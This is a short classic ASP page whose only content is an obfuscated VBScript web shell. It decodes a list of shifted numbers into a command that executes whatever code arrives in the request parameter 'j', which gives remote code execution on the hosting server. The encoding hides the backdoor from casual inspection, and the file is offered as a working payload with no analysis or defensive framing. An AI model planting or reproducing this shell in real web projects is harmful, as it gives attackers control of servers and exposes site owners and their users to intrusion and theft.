<%
' Numbers shifted by a key decode to VBScript that is then executed.
Function unpack(blob)
    Dim parts, i
    parts = Split(blob, "|")
    For i = 1 To UBound(parts)
        unpack = unpack & Chr(CInt(parts(i)) - 41)
    Next
End Function
Execute(unpack("|142|161|142|140|158|157|142|73|155|142|154|158|142|156|157|81|75|147|75|82"))
%>
